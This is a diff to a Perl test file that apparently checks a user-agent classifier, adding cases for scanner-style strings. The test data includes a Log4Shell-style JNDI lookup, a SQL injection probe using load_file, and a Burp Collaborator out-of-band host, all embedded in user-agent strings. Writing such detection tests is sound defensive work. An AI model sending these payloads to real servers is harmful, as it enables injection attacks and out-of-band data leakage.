@@ -60,6 +60,9 @@ my @cases = (
 	# (the same string with Infegy's address names Infegy, a social-listening crawler the catalogue holds)
 	[ 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0 Safari/537.36; +collection@infegy.com', 'Infegy seo unverified block-444' ],
 	[ '${jndi:ldap://${hostName}.useragent.example.oast.live}', 'unknown-bot unknown-bot unverified allow' ],
+	# ... a scanner's SQL probe, or the out-of-band host it plants, in a browser's string
+	[ "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0 Safari/537.36'+(select load_file('x.example'))+'", 'unknown-bot unknown-bot unverified allow' ],
+	[ 'Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0 Safari/537.36 root@x8f6g.burpcollaborator.net', 'x8f6g.burpcollaborator.net unknown-bot unverified allow' ],
 	[ 'Hakai/2.0', 'Hakai unknown-bot unverified allow' ],
 	[ 'Mozilla/5.0 (compatible; Crusader/1.0)', 'Crusader unknown-bot unverified allow' ],
 	[ 'CB/Nutch-1.7', 'Nutch-1.7 unknown-bot unverified allow' ],
